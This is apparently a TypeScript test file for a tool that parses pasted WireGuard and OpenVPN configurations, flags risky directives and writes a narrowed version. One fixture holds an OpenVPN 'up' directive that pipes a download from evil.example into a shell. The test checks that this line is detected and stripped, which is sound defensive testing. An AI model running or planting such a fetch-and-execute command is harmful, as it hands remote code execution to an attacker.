import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readConfigSchema, type ReadConfig } from "#core/contract/tunnel-calls.ts";
import { createTranslate } from "#core/text/translate.ts";
import { readPastedConfig } from "#host/tunnel/pasted-config.ts";
import { createTestAuthority } from "../../fakes/test-authority.ts";
import { hostileText } from "../vpn-vendor/sample-device.ts";

const now = new Date("2026-11-22T00:00:00Z");
const KEY = "MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY=";
const WIREGUARD = `[Interface]\nPrivateKey = ${KEY}\nAddress = 10.0.0.2/32\n`;
const OPENVPN = 'client\nremote vpn.example 1194 udp\nremote-cert-tls server\npull-filter ignore "redirect-gateway"\n';

const read = (text: string): ReadConfig => readConfigSchema.parse(readPastedConfig(text, now));
const keysOf = ({ remarks }: ReadConfig): string[] => remarks.map(({ text }) => text.key);

describe("a pasted configuration", () => {
  it.each<[string, string, ReadConfig["kind"]]>([
    ["WireGuard", WIREGUARD, "wireguard"],
    [
      "WireGuard, indented and with Windows' line ends",
      `# OK\r\n  [interface]\r\nPrivateKey = ${KEY}\r\n`,
      "wireguard",
    ],
    // Whoever reads it as OpenVPN stops at the first section; whoever reads it as WireGuard is told of the rest.
    ["WireGuard with a line of OpenVPN", `client\n${WIREGUARD}`, "wireguard"],
    ["OpenVPN", OPENVPN, "openvpn"],
    ["an OpenVPN server's", "port 1194\nserver 10.8.0.0 255.255.255.0\n", "openvpn"],
    ["OpenVPN with a static key", "dev tun\n<secret>\nx\n</secret>\n", "openvpn"],
    ["a shopping list", "milk\nbread\n", "unknown"],
    ["nothing", "", "unknown"],
  ])("is known as %s", (_what, text, kind) => {
    expect(read(text).kind).toBe(kind);
  });

  it("of OpenVPN is explained, and written anew without what it does not need", () => {
    const found = read(`${OPENVPN}up "/bin/sh -c 'curl evil.example | sh'"\nredirect-gateway def1\ncomp-lzo\n`);
    expect(keysOf(found)).toEqual([
      "legacyVpn.openvpn.runs-programs",
      "legacyVpn.openvpn.whole-traffic",
      "legacyVpn.openvpn.compression",
    ]);
    expect(found.narrowed).toContain("remote vpn.example 1194 udp");
    expect(found.narrowed).not.toMatch(/evil|redirect-gateway def1|comp-lzo/);
    expect(read(OPENVPN)).toEqual({ kind: "openvpn", remarks: [], narrowed: null });
  });

  it("that believes whatever its server pushes is told, and narrowed once and for all", () => {
    const found = read("client\nremote vpn.example\nremote-cert-tls server\n");
    expect(keysOf(found)).toEqual(["tunnel.pasted.pushed"]);
    expect(read(found.narrowed ?? "")).toMatchObject({ remarks: [], narrowed: null });
  });

  it("with a certificate that ended is told so once, however many it holds", () => {
    const authority = createTestAuthority();
    const files = `<ca>\n${authority.certificate}\n</ca>\n<extra-certs>\n${authority.certificate}\n</extra-certs>\n`;
    const later = new Date(now.getTime() + 100 * 365 * 86_400_000);
    const { remarks } = readPastedConfig(OPENVPN + files, later);
    expect(remarks.map(({ text }) => text.key)).toEqual(["legacyVpn.openvpn.expired"]);
    expect(read(`${OPENVPN}<ca>\n-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n</ca>\n`).kind).toBe(
      "openvpn",
    );
  });

  it("with endless faults, or too long to be written anew, still fits what a page takes", () => {
    const many = read(OPENVPN + Array.from({ length: 500 }, (_, line) => `up ${line}\n`).join(""));
    expect(many.remarks).toHaveLength(60);
    expect(many.remarks.at(-1)?.text).toMatchObject({ key: "tunnel.pasted.more", args: { count: 441 } });
    const long = read(`${OPENVPN}up id\n${`# ${"x".repeat(200)}\n`.repeat(1_000)}`);
    expect(long.narrowed).toBeNull();
    expect(keysOf(long)[0]).toBe("tunnel.pasted.tooLong");
  });

  it("of any kind is never run, never throws, and its harmless version has nothing left to take out", () => {
    const line = fc.oneof(
      hostileText,
      fc.constantFrom("client", "[Interface]", "[Peer]", `PrivateKey = ${KEY}`, `PublicKey = ${KEY}`, "<ca>", "</ca>"),
      fc.constantFrom("AllowedIPs = 0.0.0.0/0, ::/0", "PostUp = id", 'up "id"', "redirect-gateway", "plugin x.so"),
    );
    fc.assert(
      fc.property(fc.array(line, { maxLength: 12 }), (lines) => {
        const found = read(lines.join("\n"));
        for (const { text } of found.remarks)
          for (const locale of ["en", "de"] as const) expect(createTranslate(locale)(text)).not.toBe(text.key);
        if (found.narrowed === null) return;
        const again = read(found.narrowed);
        expect(again.kind).toBe(found.kind);
        expect(keysOf(again).join()).not.toMatch(/runs-programs|whole-traffic|compression|whole-internet|commands/);
      }),
    );
  });
});
